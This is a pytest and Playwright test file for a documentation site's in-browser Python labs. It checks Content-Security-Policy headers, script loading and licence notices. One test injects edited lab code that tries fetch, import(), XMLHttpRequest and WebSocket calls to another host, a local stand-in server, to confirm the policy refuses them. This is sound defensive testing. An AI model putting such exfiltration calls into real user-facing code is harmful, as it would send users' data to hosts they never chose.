"""Nothing leaves for another host, edited lab code included; and every part of others comes with its licence."""

from __future__ import annotations

import base64
import hashlib
import re
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from playwright.sync_api import Page

from tests.site.lab_pages import BOOT

pytestmark = pytest.mark.drawn(3)

POLICY = re.compile(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">')
# Edited code that tries each way out: from the worker itself, and from one of its own, where import() can be called.
INNER = """
const outcome = {};
const refused = (name) => () => { outcome[name] = "refused" };
const went = (name) => () => { outcome[name] = "went" };
fetch("http://HOST/fetch", {mode: "no-cors"}).then(went("fetch"), refused("fetch"));
import("http://HOST/import.js").then(went("import"), refused("import"));
const shout = new XMLHttpRequest();
Object.assign(shout, {onload: went("xhr"), onerror: refused("xhr")}).open("GET", "http://HOST/xhr");
shout.send();
try {
  Object.assign(new WebSocket("ws://HOST/socket"), {onopen: went("socket"), onerror: refused("socket")});
} catch { refused("socket")() }
const told = setInterval(() => {
  if (Object.keys(outcome).length < 4) return;
  clearInterval(told);
  new BroadcastChannel("outcome").postMessage(outcome);
}, 50);
"""
LEAK = f"""def relative_error(*anything):
    import js
    from pyodide.ffi import to_js
    js.fetch("http://HOST/straight")
    js.Worker.new(js.URL.createObjectURL(js.Blob.new(to_js([{INNER!r}]))))
    return 0.5
"""
SOCKET = "258EAFA5-E914-47DA-95CA-C5AB0DC85B11"  # by which a server shows that it speaks WebSocket (RFC 6455, 1.3)
READY = "lab-view[data-state=ready]"
WATCH = (
    "addEventListener('securitypolicyviolation', e => (self.refused ??= []).push(e.violatedDirective + e.blockedURI))"
)
LISTEN = "new BroadcastChannel('outcome').onmessage = ({data}) => { self.outcome = data }"


@pytest.fixture
def other_host() -> Iterator[tuple[str, list[str]]]:
    """Another host, which takes whatever comes and notes it."""
    came: list[str] = []

    class Taker(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def do_GET(self) -> None:
            came.append(self.path)
            if key := self.headers.get("Sec-WebSocket-Key"):
                told = base64.b64encode(hashlib.sha1(f"{key}{SOCKET}".encode()).digest()).decode()
                self.send_response(101)
                for name, value in (
                    ("Upgrade", "websocket"),
                    ("Connection", "Upgrade"),
                    ("Sec-WebSocket-Accept", told),
                ):
                    self.send_header(name, value)
                self.end_headers()
                return
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.send_header("Content-Type", "text/javascript")
            self.send_header("Content-Length", "0")
            self.end_headers()

        def log_message(self, *arguments: object) -> None:
            """Quiet."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Taker)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"127.0.0.1:{server.server_port}", came
    server.shutdown()


def test_edited_code_reaches_no_other_host(visit: Callable[..., Page], other_host: tuple[str, list[str]]) -> None:
    host, came = other_host
    page = visit("labs/lora/", init=LISTEN)
    page.wait_for_selector(READY, timeout=BOOT)
    box = page.locator('[data-code="labs_py.core.lora:relative_error"]')
    box.locator("summary").click()
    box.locator("textarea").wait_for(timeout=BOOT)
    box.locator("textarea").fill(LEAK.replace("HOST", host))
    box.locator("textarea").press("Control+Enter")
    page.wait_for_function("() => self.outcome", timeout=BOOT)
    assert page.evaluate("self.outcome") == dict.fromkeys(("fetch", "import", "socket", "xhr"), "refused")
    assert came == []


def test_every_page_has_the_policy_before_all_that_it_must_hold(site_dir: Path) -> None:
    for file in site_dir.rglob("*.html"):
        html = file.read_text(encoding="utf-8")
        found = POLICY.search(html)
        assert found, f"{file.relative_to(site_dir)} has no policy"
        assert not re.search(r"<(script|link|style)\b", html[: found.start()]), file
        sources = dict(rule.split(" ", 1) for rule in found[1].split("; "))
        assert "unsafe-inline" not in sources["script-src"]
        assert not re.search(r"https?:|\*", found[1])


@pytest.mark.parametrize(
    "path", ["", "articles/10-fine-tuning/lora-and-qlora/", "labs/lora/", "reference/notice/", "404.html"]
)
def test_the_policy_refuses_nothing_of_ours(visit: Callable[..., Page], path: str) -> None:
    page = visit(path, init=WATCH)
    if path.startswith("labs/"):
        page.wait_for_selector(READY, timeout=BOOT)
    page.wait_for_timeout(500)
    assert page.evaluate("self.refused ?? []") == []
    assert page.complaints == []


def test_instant_navigation_brings_pages_whose_scripts_run(visit: Callable[..., Page]) -> None:
    page = visit("reference/notation/", init=WATCH)
    page.evaluate("self.same = true")
    page.evaluate("""document.querySelector('a[href$="labs/lora/"]').click()""")
    page.wait_for_url("**/labs/lora/**")
    page.wait_for_selector(READY, timeout=BOOT)
    assert page.evaluate("self.same") and page.evaluate("self.refused ?? []") == []


def test_the_notice_lists_each_part_that_travels_with_its_licence(site_dir: Path) -> None:
    html = (site_dir / "reference" / "notice" / "index.html").read_text(encoding="utf-8")
    for said in ("Pyodide", "Mozilla Public License Version 2.0", "CPython", "PYTHON SOFTWARE FOUNDATION LICENSE",
                 "numpy", "katex", "d3-shape", "mkdocs-material", "SIL OPEN FONT LICENSE", "Explainer"):  # fmt: skip
        assert said in html, said
    for page in ("index.html", "labs/lora/index.html"):
        assert "reference/notice/" in (site_dir / page).read_text(encoding="utf-8")
